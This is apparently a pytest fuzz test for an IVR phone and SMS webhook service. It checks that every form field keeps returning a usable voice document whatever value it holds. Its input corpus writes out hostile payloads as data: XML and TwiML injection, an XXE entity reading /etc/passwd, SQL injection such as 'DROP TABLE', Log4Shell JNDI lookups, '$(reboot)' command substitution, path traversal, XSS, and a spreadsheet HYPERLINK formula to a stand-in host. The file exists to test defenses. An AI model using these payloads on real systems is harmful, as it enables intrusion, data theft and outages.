"""Nothing that comes in breaks the phone: whatever a field holds, the answer is a document a carrier can use, with the
verbs it would have had for a harmless value. Every value goes through every field on PostgreSQL, which is the stricter
database."""

import random
import re
from typing import Any

import pytest
from people import House
from webhooks import document, of_call, of_receipt, of_recording, of_text, sends, verbs

from ivr.simulator.network.ledger import new_sid

pytestmark = pytest.mark.usefixtures("unlimited")

HARMLESS = "zzqq xxvv"


def corpus() -> list[str]:
    """The same values each time: by class, and a seeded mix of their characters."""
    values = [
        "\U0001f6a8", "\U0001f468\u200d\U0001f469\u200d\U0001f467", "\u2764\ufe0f" * 50, "e\u0301" * 300,
        "\x00", "a\x00b", "\x01\x02\x1b[31m", "\r\nX-Evil: 1", "\u2028\u2029", "\ufffe\uffff", "\x7f\x85", "\ufeffq",
        "\u202eteks", "\u0645\u0631\u062d\u0628\u0627", "\u2066a\u2069", "\u0661\u0662\u0663", "\uff11\uff12", "\u200b",
        "a" * 10_000, "\u2713" * 3_000, "1" * 10_000, "*#" * 5_000, "tambun " * 1_400, " " * 300, "\t",
        "</Say></Gather><Hangup/><Say>", "<Redirect>http://evil.example</Redirect>", "]]><Dial>+1900</Dial>",
        "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>&b;", "&lt;Hangup/&gt;", "&#60;Hangup/&#62;", "<!--",
        "<say-as interpret-as='digits'>1</say-as>", "<break time='9000s'/>", "<prosody rate='x'>",
        "<?xml version='2'?>", "<!-- a -- b -->",
        "' OR 1=1 --", "'; DROP TABLE tickets; --", "\\'; SELECT pg_sleep(9); --", "%' AND 1=0 UNION SELECT 1", "%_%",
        "{0.__class__}", "{{7*7}}", "{name}", "%s%s%n", "%(x)s", "${jndi:ldap://evil.example}", "$(reboot)", "`id`",
        "{", "}", "%", "\\", "\\u0000", "../../etc/passwd", "javascript:alert(1)", "<script>alert(1)</script>",
        "=HYPERLINK(\"http://evil.example\")", "null", "NaN", "-1", "1e999", "0x10", "true", "[]", '{"a":1}',
        "undefined",
        "completed", "hangup", "sip:a@evil.example", "client:x", "tel:+62812", "+62812 0000 1111",
        "\u202a+6281200001111\u202c",
        "anonymous", "Restricted", "+000000000000", "112", "1500444", "+1-900-555", "0812O0OO111l",
        "\u0660\u0668\u0661\u0662",
    ]  # fmt: skip
    chance = random.Random(1500444)
    characters = "".join(value[:40] for value in values)
    values += ["".join(chance.choices(characters, k=chance.randint(1, 200))) for _ in range(25)]
    return values


def values_in_parts() -> list[Any]:
    everything, size = corpus(), 8
    starts = range(0, len(everything), size)
    return [pytest.param(everything[start : start + size], id=f"from {start}") for start in starts]


def at_the_place(house: House) -> str:
    sid = new_sid("CA")
    sends(house, "/voice/incoming", of_call(sid).items())
    sends(house, "/voice/turn/1", of_call(sid, Digits="22").items())
    return sid


def keys(value: str) -> str:
    """What is left of `value` on a keypad."""
    return re.sub(r"[^0-9*#]", "", value)[:64]


@pytest.mark.parametrize("values", values_in_parts())
def test_whatever_a_voice_field_holds_the_phone_speaks(postgres_house: House, values: list[str]) -> None:
    house = postgres_house
    for value in values:
        for name in ("From", "To", "CallStatus", "ErrorCode", "CallerName", "Digits"):
            form = {**of_call(), name: value}
            told = sends(house, "/voice/incoming", form.items())
            if name in ("From", "To", "CallStatus") and len(value) > 256:
                assert told.status_code == 400, (name, value)
                continue
            assert verbs(document(told))[:2] == ["Response", "Gather"], (name, value)
            assert "sistem sedang terganggu" not in told.text, (name, value)
        fallback = document(
            sends(house, "/voice/fallback", {**of_call(), "ErrorCode": value, "ErrorUrl": value}.items())
        )
        assert "Record" in verbs(fallback)


@pytest.mark.parametrize("values", values_in_parts())
def test_what_is_said_and_keyed_changes_no_verb(postgres_house: House, values: list[str]) -> None:
    house = postgres_house
    plain = verbs(document(sends(house, "/voice/turn/2", of_call(at_the_place(house), SpeechResult=HARMLESS).items())))
    for value in values:
        sid = at_the_place(house)
        said = sends(house, "/voice/turn/2", of_call(sid, SpeechResult=value, Confidence=value, Language=value).items())
        root = document(said)
        if "tambun" not in value:
            assert verbs(root) == plain, value
        assert "sistem sedang terganggu" not in said.text, value
        assert "evil.example" not in said.text
        one, other = new_sid("CA"), new_sid("CA")
        for call, typed in ((one, value), (other, keys(value))):
            sends(house, "/voice/incoming", of_call(call).items())
            told = sends(house, "/voice/turn/1", of_call(call, Digits=typed).items())
            tree = verbs(document(told))
            if call == one:
                first = tree
        assert tree == first, f"keys {keys(value)!r} of {value!r}"
        recorded = {"RecordingSid": new_sid("RE"), "RecordingDuration": value, "RecordingUrl": value, "Digits": value}
        document(sends(house, "/voice/turn/3", of_call(sid, **recorded).items()))
        document(sends(house, "/voice/turn/4", of_call(sid, DialCallStatus=value, DialBridged=value).items()))


@pytest.mark.parametrize("values", values_in_parts())
def test_whatever_a_callback_or_a_text_holds_we_take_it(postgres_house: House, values: list[str]) -> None:
    house = postgres_house
    for value in values:
        requests = {
            "/voice/status": {**of_call(), "CallStatus": value, "CallDuration": value},
            "/voice/recording/1": {**of_recording(new_sid("CA"), value), "RecordingUrl": value},
            "/voice/fallback/saved": {**of_call(), "RecordingSid": new_sid("RE"), "RecordingDuration": value},
            "/sms/incoming": {**of_text(value), "From": value, "NumMedia": value, "MediaUrl0": value},
            "/sms/status?ref=x": {**of_receipt(value), "ErrorCode": value},
        }
        for path, form in requests.items():
            told = sends(house, path, form.items())
            assert told.status_code in (200, 204, 400), (path, value)
            assert told.status_code != 400 or len(value) > 256, (path, value)


def test_the_corpus_is_large_enough() -> None:
    assert len(set(corpus())) * (7 + 4 + 5) >= 600
